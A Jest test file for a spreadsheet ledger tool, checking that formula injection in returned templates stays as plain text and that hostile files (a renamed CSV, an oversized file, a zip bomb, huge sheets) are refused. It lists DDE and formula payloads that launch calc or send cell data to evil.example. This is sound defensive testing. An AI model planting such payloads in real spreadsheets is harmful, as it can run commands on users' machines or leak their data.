/**
 * Hostile returned templates for 导入填报: formula injection in every text
 * column, through the pure planner, the memory host and `epi-ledger merge`;
 * and files that are not what they claim (renamed, oversized, a zip bomb, 200
 * sheets, a 16,384-column header) given to `epi-ledger merge --in-place`.
 * Every hostile file is generated here in a temporary folder and deleted
 * afterwards. Each gets a message naming the file, and the ledger is left as
 * it was.
 */
import { promises as fs } from "node:fs";
import * as path from "node:path";
import { runCli } from "../../src/cli/main";
import { loadXlsx } from "../../src/hosts/xlsx/files";
import { findSheet } from "../../src/hosts/xlsx/xlsxHost";
import { columnLetters } from "../../src/workbook/a1";
import type { CellValue } from "../../src/workbook/cells";
import { executeCommand } from "../../src/workbook/execute";
import { initWorkbook } from "../../src/workbook/init/initWorkbook";
import { isFormulaCell, type WriteOp } from "../../src/workbook/plan";
import type { WorkbookSnapshot } from "../../src/workbook/snapshot";
import { importReturns, planImport, type ReturnedFile } from "../../src/workbook/stockpile/import";
import { STOCKPILE_SHEET } from "../../src/workbook/stockpile/specs";
import {
  RUN,
  memoryState,
  returnedTemplate,
  runOk,
  sampleMemoryBook,
  stateDifferences,
  xlsxState,
  type ReturnRow,
} from "../helpers/robustness";
import { fileHash, writeLargeFile, writePlainXlsx, writeZipBomb } from "../helpers/robustnessFiles";
import { makeEnv, type RecordedEnv } from "../xlsx/helpers";

jest.setTimeout(120_000);

/** What a spreadsheet would run if the text became a formula, DDE payloads included. */
const PAYLOADS = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1+1)",
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+cmd|' /C notepad'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
  '=WEBSERVICE("http://evil.example/")',
];

/** Items of the default 物资目录, one per typed row. */
const ITEMS = ["医用外科口罩", "速干手消毒剂", "含氯消毒剂", "红外体温计", "医用防护服"];

/** 城关镇's return with one typed cell replaced. */
function injected(column: keyof ReturnRow, payload: string): ReturnedFile {
  const row: ReturnRow = { item: "医用外科口罩", persons: 50, stock: 3000, [column]: payload };
  const unit = column === "unit" ? payload : "城关镇";
  return returnedTemplate([row], { unit, fileName: "城关镇.xlsx" });
}

/** The sample ledger after 初始化工作簿, with a 备注 user column on 物资储备 (so notes are imported). */
async function ledgerSnapshot(): Promise<WorkbookSnapshot> {
  const { book, host } = sampleMemoryBook();
  await runOk(host, initWorkbook);
  const header = book.values(STOCKPILE_SHEET)[1];
  book.setValues(STOCKPILE_SHEET, `${columnLetters(header.length + 1)}2`, [["备注"]]);
  const state = memoryState(book);
  return {
    sheetNames: state.sheetNames,
    names: state.names,
    sheets: Object.fromEntries(
      Object.entries(state.sheets).map(([name, s]) => [name, { name, ...s }])
    ),
  };
}

const formulasOf = (ops: readonly WriteOp[]) =>
  ops.flatMap((o) => (o.kind === "block" ? o.cells.flat().filter(isFormulaCell) : []));
const stringsOf = (ops: readonly WriteOp[]) =>
  ops
    .flatMap((o) => (o.kind === "block" ? o.cells.flat() : []))
    .filter((c) => typeof c === "string");

describe("formula injection in a returned template", () => {
  let ledger: WorkbookSnapshot;
  beforeAll(async () => {
    ledger = await ledgerSnapshot();
  });

  const written = (["unit", "measure", "note"] as const).flatMap((column) =>
    PAYLOADS.map((payload) => [column, payload] as const)
  );
  it.each(written)(
    "writes %s %p as a plain string and makes no formula of it",
    (column, payload) => {
      const plan = planImport([injected(column, payload)], ledger, RUN);
      expect(plan.issues.filter((i) => i.severity === "error")).toEqual([]);
      expect(plan.ops.length).toBeGreaterThan(0);
      expect(stringsOf(plan.ops)).toContain(payload);
      const formulas = formulasOf(plan.ops).map((f) => f.formula);
      expect(formulas.filter((f) => /cmd\||HYPERLINK|WEBSERVICE|SUM\(1\+1\)|1\+1/.test(f))).toEqual(
        []
      );
    }
  );

  const refused = (["category", "item"] as const).flatMap((column) =>
    PAYLOADS.map((payload) => [column, payload] as const)
  );
  it.each(refused)(
    "refuses %s %p with an issue at its cell and imports nothing of the return",
    (column, payload) => {
      const plan = planImport([injected(column, payload)], ledger, RUN);
      const cell = column === "category" ? "B5" : "C5";
      expect(plan.issues.filter((i) => i.severity === "error").map((i) => i.cell)).toEqual([cell]);
      expect(plan.units.map((u) => u.blocked)).toEqual([true]);
      expect(plan.ops).toEqual([]);
    }
  );

  it("keeps every payload as text on the memory host, in every sheet the import writes", async () => {
    const { book, host } = sampleMemoryBook();
    await runOk(host, initWorkbook);
    const header = book.values(STOCKPILE_SHEET)[1];
    book.setValues(STOCKPILE_SHEET, `${columnLetters(header.length + 1)}2`, [["备注"]]);
    const rows: ReturnRow[] = PAYLOADS.slice(0, ITEMS.length).map((payload, i) => ({
      item: ITEMS[i],
      persons: 50,
      stock: 10 + i,
      measure: PAYLOADS[PAYLOADS.length - 1 - i],
      note: payload,
    }));
    const newUnit = "=cmd|' /C calc'!A0";
    const outcome = await executeCommand(host, importReturns, {
      ...RUN,
      options: {
        returns: [
          returnedTemplate(rows),
          returnedTemplate([{ item: "医用外科口罩", persons: 5, stock: 5 }], {
            unit: newUnit,
            fileName: "新单位.xlsx",
          }),
        ],
        confirm: true,
      },
    });
    expect(outcome.ok && outcome.result.issues).toEqual([]);
    const typed = new Set<CellValue>([
      newUnit,
      ...rows.flatMap((r) => [r.note ?? null, r.measure ?? null]),
    ]);
    const seen = new Set<CellValue>();
    const asFormula: string[] = [];
    for (const sheet of book.sheetNames()) {
      const values = book.values(sheet);
      const formats = book.numberFormats(sheet);
      book.formulas(sheet).forEach((line, r) =>
        line.forEach((f, c) => {
          if (!typed.has(f)) return;
          seen.add(f);
          // A formula cell shows its result (none here), a text cell what was typed.
          if (values[r][c] !== f || formats[r]?.[c] !== "@")
            asFormula.push(`${sheet}!${columnLetters(c + 1)}${r + 1}`);
        })
      );
    }
    expect(seen).toEqual(typed);
    expect(asFormula).toEqual([]);
  });

  it("keeps every payload as text in the ledger written by epi-ledger merge", async () => {
    const env = makeEnv();
    try {
      expect(await runCli(["demo", "-o", "ledger.xlsx"], env)).toBe(0);
      const rows: ReturnRow[] = PAYLOADS.slice(0, 5).map((payload, i) => ({
        item: ITEMS[i],
        persons: 50,
        stock: 10 + i,
        measure: payload,
      }));
      const file = returnedTemplate(rows);
      await writePlainXlsx(path.join(env.cwd, "城关镇.xlsx"), file.sheets);
      const code = await runCli(["merge", "城关镇.xlsx", "--into", "ledger.xlsx"], env);
      expect(code).toBeLessThan(2);
      const workbook = await loadXlsx(path.join(env.cwd, "ledger_已导入.xlsx"));
      const ws = findSheet(workbook, STOCKPILE_SHEET)!;
      const texts: string[] = [];
      const formulas: string[] = [];
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          if (cell.formula !== undefined && /cmd\||HYPERLINK|SUM\(1\+1\)|1\+1/.test(cell.formula))
            formulas.push(cell.formula);
          if (typeof cell.value === "string" && rows.some((r) => r.measure === cell.value))
            texts.push(cell.value);
        })
      );
      expect(formulas).toEqual([]);
      expect(new Set(texts)).toEqual(new Set(rows.map((r) => r.measure)));
    } finally {
      await fs.rm(env.cwd, { recursive: true, force: true });
    }
  });
});

describe("hostile files in the pure import planner", () => {
  let ledger: WorkbookSnapshot;
  beforeAll(async () => {
    ledger = await ledgerSnapshot();
  });

  it("refuses a file that is not named .xlsx, naming it", () => {
    const file = { ...returnedTemplate([{ item: "医用外科口罩", persons: 1, stock: 1 }]) };
    file.fileName = "城关镇.csv";
    const plan = planImport([file], ledger, RUN);
    expect(plan.issues.map((i) => i.code)).toEqual(["notXlsx"]);
    expect(plan.issues[0].message.zh).toContain("城关镇.csv");
    expect(plan.ops).toEqual([]);
  });

  it("says no template was found in a workbook of 200 sheets of something else", () => {
    const file: ReturnedFile = {
      fileName: "200.xlsx",
      sheets: Array.from({ length: 200 }, (_, i) => ({
        name: `表${i + 1}`,
        values: [
          ["序号", "说明"],
          [i + 1, "=cmd|' /C calc'!A0"],
        ],
      })),
    };
    const plan = planImport([file], ledger, RUN);
    expect(plan.issues.map((i) => `${i.code} ${i.sheet}!${i.cell}`)).toEqual([
      "templateNotFound 表1!A1",
    ]);
    expect(plan.ops).toEqual([]);
  });

  it("says no template was found when the header row is 16,384 unknown columns", () => {
    const file: ReturnedFile = {
      fileName: "宽表.xlsx",
      sheets: [
        {
          name: "填报-城关镇",
          values: [Array.from({ length: 16_384 }, (_, i) => `列${i + 1}`), [1, 2, 3]],
        },
      ],
    };
    const plan = planImport([file], ledger, RUN);
    expect(plan.issues.map((i) => i.code)).toEqual(["templateNotFound"]);
    expect(plan.ops).toEqual([]);
  });

  it("imports a template whose header row runs on to column XFD, ignoring the extra columns", () => {
    const file = returnedTemplate([{ item: "医用外科口罩", persons: 50, stock: 3000 }]);
    const values = file.sheets[0].values;
    const header = values[3];
    for (let c = header.length; c < 16_384; c++) header[c] = `列${c + 1}`;
    const plan = planImport([file], ledger, RUN);
    expect(plan.issues.filter((i) => i.severity === "error")).toEqual([]);
    expect(plan.units.map((u) => [u.unit, u.blocked])).toEqual([["城关镇", false]]);
    const widest = Math.max(
      ...plan.ops.flatMap((o) => (o.kind === "block" ? [o.column + (o.cells[0]?.length ?? 0)] : []))
    );
    expect(widest).toBeLessThan(100);
  });
});

interface Hostile {
  name: string;
  file: string;
  make: (file: string) => Promise<void>;
  /** What the message must say, in Chinese and in English (the CLI prints the one of LANG). */
  says: RegExp;
}

const HOSTILE: readonly Hostile[] = [
  {
    name: "a CSV renamed to .xlsx",
    file: "城关镇.xlsx",
    make: (f) => fs.writeFile(f, "单位,物资名称,现有库存\n城关镇,医用外科口罩,3000\n"),
    says: /不是 \.xlsx 文件/,
  },
  {
    name: "an old .xls renamed to .xlsx",
    file: "青石镇.xlsx",
    make: (f) =>
      fs.writeFile(f, Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0]), Buffer.alloc(4096)])),
    says: /旧版 \.xls/,
  },
  {
    name: "a 50 MB file",
    file: "柳河镇.xlsx",
    make: (f) => writeLargeFile(f, 50 * 1024 * 1024),
    says: /50\.0 MB，超过 10 MB 上限/,
  },
  {
    name: "a zip bomb (600 KB that expands to 600 MB)",
    file: "白云乡.xlsx",
    make: (f) => writeZipBomb(f, 600 * 1024 * 1024),
    says: /解压|过大/,
  },
  {
    name: "a workbook of 200 sheets",
    file: "松林乡.xlsx",
    make: (f) =>
      writePlainXlsx(
        f,
        Array.from({ length: 200 }, (_, i) => ({ name: `表${i + 1}`, values: [["序号"], [i]] }))
      ),
    says: /未找到填报表/,
  },
  {
    name: "a header row of 16,384 columns",
    file: "红旗镇.xlsx",
    make: (f) =>
      writePlainXlsx(f, [
        { name: "填报-红旗镇", values: [Array.from({ length: 16_384 }, (_, i) => `列${i + 1}`)] },
      ]),
    says: /未找到填报表/,
  },
];

describe("epi-ledger merge --in-place given a hostile return", () => {
  let demo: RecordedEnv;
  beforeAll(async () => {
    demo = makeEnv();
    expect(await runCli(["demo", "-o", "ledger.xlsx"], demo)).toBe(0);
  });
  afterAll(async () => {
    await fs.rm(demo.cwd, { recursive: true, force: true });
  });

  /** A fresh copy of the demo ledger in its own folder, with the hostile file beside it. */
  async function setUp(hostile: Hostile) {
    const env = makeEnv();
    const ledger = path.join(env.cwd, "ledger.xlsx");
    await fs.copyFile(path.join(demo.cwd, "ledger.xlsx"), ledger);
    await hostile.make(path.join(env.cwd, hostile.file));
    return { env, ledger };
  }

  it.each(HOSTILE.map((h) => [h.name, h]))(
    "%s: a message naming the file, and the ledger's cells unchanged",
    async (_name, hostile) => {
      const { env, ledger } = await setUp(hostile);
      try {
        const before = xlsxState(await loadXlsx(ledger));
        const code = await runCli(
          ["merge", hostile.file, "--into", "ledger.xlsx", "--in-place"],
          env
        );
        const said = [...env.err, ...env.out].join("");
        expect(code).toBeGreaterThan(0);
        expect(said).toContain(hostile.file);
        const after = xlsxState(await loadXlsx(ledger));
        expect(stateDifferences(before, after).slice(0, 10)).toEqual([]);
        expect(said).toMatch(hostile.says);
      } finally {
        await fs.rm(env.cwd, { recursive: true, force: true });
      }
    }
  );

  it("does not rewrite the ledger file when a return holds nothing to import", async () => {
    const { env, ledger } = await setUp(
      HOSTILE.find((h) => h.name === "a workbook of 200 sheets")!
    );
    try {
      const hash = await fileHash(ledger);
      expect(
        await runCli(["merge", "松林乡.xlsx", "--into", "ledger.xlsx", "--in-place"], env)
      ).toBe(1);
      expect(await fileHash(ledger)).toBe(hash);
    } finally {
      await fs.rm(env.cwd, { recursive: true, force: true });
    }
  });
});
